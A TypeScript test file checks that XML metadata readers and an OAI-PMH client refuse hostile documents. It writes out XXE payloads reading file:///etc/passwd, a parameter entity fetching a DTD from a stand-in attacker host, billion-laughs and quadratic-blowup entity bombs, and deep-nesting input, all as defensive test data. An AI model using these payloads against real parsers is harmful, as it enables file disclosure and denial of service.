import { expect } from 'chai';
import { IMPORT_FORMATS } from '../../src/import/formats.js';
import type { ImportItem } from '../../src/import/import-item.js';
import { readDataCiteXml } from '../../src/import/readers/datacite-xml.js';
import { decodeUtf8Strictly } from '../../src/import/utf8.js';
import { DomainError } from '../../src/model/errors.js';

/** A valid document for each XML reader, with `title` as the text of its title. */
const DOCUMENTS: Record<string, (title: string, prolog?: string) => string> = {
  'datacite-xml': (title, prolog = '') => `<?xml version="1.0" encoding="UTF-8"?>
${prolog}<resource xmlns="http://datacite.org/schema/kernel-4">
  <identifier identifierType="DOI">10.1234/hostile</identifier>
  <creators><creator><creatorName>Doe, Jane</creatorName></creator></creators>
  <titles><title>${title}</title></titles>
  <publisher>Example</publisher>
  <publicationYear>2024</publicationYear>
  <resourceType resourceTypeGeneral="Dataset"/>
</resource>`,
  oai_dc: (title, prolog = '') => `<?xml version="1.0" encoding="UTF-8"?>
${prolog}<oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <dc:title>${title}</dc:title>
  <dc:creator>Doe, Jane</dc:creator>
  <dc:date>2024</dc:date>
  <dc:identifier>https://doi.org/10.1234/hostile</dc:identifier>
</oai_dc:dc>`,
  oai_datacite: (title, prolog = '') => `<?xml version="1.0" encoding="UTF-8"?>
${prolog}<oai_datacite xmlns="http://schema.datacite.org/oai/oai-1.1/">
  <schemaVersion>4</schemaVersion>
  <datacentreSymbol>EXAMPLE</datacentreSymbol>
  <payload>
    <resource xmlns="http://datacite.org/schema/kernel-4">
      <identifier identifierType="DOI">10.1234/hostile</identifier>
      <creators><creator><creatorName>Doe, Jane</creatorName></creator></creators>
      <titles><title>${title}</title></titles>
      <publisher>Example</publisher>
      <publicationYear>2024</publicationYear>
      <resourceType resourceTypeGeneral="Dataset"/>
    </resource>
  </payload>
</oai_datacite>`,
};

const readers = Object.keys(DOCUMENTS).map((name) => IMPORT_FORMATS.find((format) => format.name === name)!);

function refusal(read: () => unknown): DomainError {
  try {
    const output = read();
    throw new Error(`expected a refusal, read ${JSON.stringify(output).slice(0, 300)}`);
  } catch (error) {
    expect(error).to.be.instanceOf(DomainError);
    expect((error as DomainError).code).to.equal('bad_request');
    return error as DomainError;
  }
}

const titleOf = (items: ImportItem[]) => (items[0]?.record?.titles as Array<{ title: string }> | undefined)?.[0]?.title;

const XXE_SYSTEM = '<!DOCTYPE r [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n';
const XXE_PUBLIC = '<!DOCTYPE r [\n  <!ENTITY xxe PUBLIC "-//EVIL//X" "file:///etc/passwd">\n]>\n';
const PARAMETER_ENTITY = '<!DOCTYPE r [\n  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n  %remote;\n]>\n';
const EXTERNAL_DTD = '<!DOCTYPE r SYSTEM "file:///etc/passwd">\n';
const BILLION_LAUGHS = `<!DOCTYPE lolz [
 <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}
]>
`;
const QUADRATIC = `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]>\n`;

describe('hostile XML', () => {
  for (const format of readers) {
    const document = DOCUMENTS[format.name]!;

    describe(`the ${format.name} reader`, () => {
      it('reads the document the attacks start from', () => {
        expect(format.detect(document('A title'))).to.equal(true);
        expect(titleOf(format.read(document('A title')))).to.equal('A title');
      });

      for (const [attack, prolog, reference] of [
        ['an external entity (SYSTEM file:///etc/passwd)', XXE_SYSTEM, '&xxe;'],
        ['an external entity (PUBLIC)', XXE_PUBLIC, '&xxe;'],
        ['an external parameter entity', PARAMETER_ENTITY, ''],
      ] as const) {
        it(`refuses ${attack}, naming the line of the declaration, and resolves nothing`, () => {
          const error = refusal(() => format.read(document(`before ${reference} after`, prolog)));
          expect(error.message).to.match(/^line 3: the document declares an entity/);
          expect(error.message).to.not.match(/root:|\/bin\/(ba)?sh/);
        });
      }

      it('refuses a reference to an external DTD, which is never fetched', () => {
        expect(refusal(() => format.read(document('A title', EXTERNAL_DTD))).message).to.match(/^line 2: .*external DTD/);
      });

      it('refuses the billion laughs fast, without expanding anything', () => {
        const started = performance.now();
        const error = refusal(() => format.read(document('&lol9;', BILLION_LAUGHS)));
        expect(performance.now() - started).to.be.below(200);
        expect(error.message).to.match(/^line 3: the document declares an entity/);
      });

      it('refuses a large entity referenced many times (quadratic blowup)', () => {
        expect(refusal(() => format.read(document('&a;'.repeat(10_000), QUADRATIC))).message).to.match(/declares an entity/);
      });

      it('bounds the depth of nesting', () => {
        const deep = document(`${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}`);
        const started = performance.now();
        expect(refusal(() => format.read(deep)).message).to.match(/nested more than 100 deep/);
        expect(performance.now() - started).to.be.below(2_000);
      });

      it('names the line of malformed XML', () => {
        const malformed = document('A title').replace(/<\/(dc:)?title>/, '</$1titel>');
        expect(refusal(() => format.read(malformed)).message).to.match(/^not well-formed XML \(line \d+, column \d+\)/);
        const line = malformed.split('\n').findIndex((text) => text.includes('titel')) + 1;
        expect(refusal(() => format.read(malformed)).message).to.include(`line ${line},`);
      });

      it('drops NUL and the other control characters XML forbids, whether raw or as references', () => {
        expect(titleOf(format.read(document('a\u0000b\u0001c\u001Fd')))).to.equal('abcd');
        expect(titleOf(format.read(document('a&#0;b&#x1;c&#x1F;d&#xFFFE;e&#xD800;f')))).to.equal('abcdef');
        expect(titleOf(format.read(document('tab\there')))).to.equal('tab\there');
      });

      it('decodes character references and the predefined entities once, and expands no other entity', () => {
        expect(titleOf(format.read(document('caf&#233; &#x1F600; &lt;b&gt; &amp;lt;p&amp;gt; &quot;q&apos;')))).to.equal('café 😀 <b> &lt;p&gt; "q\'');
        expect(titleOf(format.read(document('&nbsp;&copy;')))).to.equal('&nbsp;&copy;');
        expect(titleOf(format.read(document('<![CDATA[&lt;kept&gt; <!ENTITY x "y">]]>')))).to.equal('&lt;kept&gt; <!ENTITY x "y">');
      });

      it('does not take an entity declaration quoted in a comment for one', () => {
        expect(titleOf(format.read(document('A title', '<!-- <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]> -->\n')))).to.equal('A title');
      });
    });
  }

  it('guards the reader of whole DataCite documents as well', () => {
    expect(refusal(() => readDataCiteXml(DOCUMENTS['datacite-xml']!('&xxe;', XXE_SYSTEM))).message).to.match(/declares an entity/);
  });

  describe('documents that are not UTF-8', () => {
    const bytes = (...parts: Array<string | number[]>) =>
      Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));

    const INVALID: Array<[what: string, document: Buffer, at: number]> = [
      ['a Latin-1 byte', bytes('<dc:title>Caf', [0xe9], '</dc:title>'), 13],
      ['a continuation byte without a lead', bytes('<a>', [0x80], '</a>'), 3],
      ['an overlong encoding of /', bytes('<a>', [0xc0, 0xaf], '</a>'), 3],
      ['an encoded surrogate', bytes('<a>x', [0xed, 0xa0, 0x80], '</a>'), 4],
      ['a code point above U+10FFFF', bytes('<a>', [0xf4, 0x90, 0x80, 0x80], '</a>'), 3],
      ['a sequence cut off by the end', bytes('<a>é</a>', [0xe2, 0x82]), 9],
      ['a lead byte followed by ASCII', bytes('<a>', [0xc3, 0x28], '</a>'), 3],
    ];
    for (const [what, document, at] of INVALID) {
      it(`are refused at the byte where they stop being UTF-8: ${what}`, () => {
        expect(refusal(() => decodeUtf8Strictly(document)).message).to.equal(`invalid UTF-8 at byte ${at}`);
      });
    }

    it('are refused as UTF-16 when they start with its byte order mark', () => {
      expect(refusal(() => decodeUtf8Strictly(Buffer.from('\uFEFF<a/>', 'utf16le'))).message).to.match(/UTF-16/);
    });

    it('are read when they are UTF-8, without the byte order mark', () => {
      expect(decodeUtf8Strictly(bytes([0xef, 0xbb, 0xbf], '<a>日本語 😀 é</a>'))).to.equal('<a>日本語 😀 é</a>');
      expect(decodeUtf8Strictly(new Uint8Array())).to.equal('');
    });
  });
});

describe('the OAI-PMH harvesting client, against hostile responses', () => {
  it('refuses a response that declares entities, before parsing it', async () => {
    const { parseOaiDocument } = await import('../../src/import/oai-response.js');
    const laughs = `<?xml version="1.0"?><!DOCTYPE OAI-PMH [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>&b;</responseDate></OAI-PMH>`;
    expect(() => parseOaiDocument(laughs)).to.throw(/declares an entity/);
    const external = `<?xml version="1.0"?><!DOCTYPE OAI-PMH SYSTEM "file:///etc/passwd"><OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"/>`;
    expect(() => parseOaiDocument(external)).to.throw(/external DTD/);
  });
});
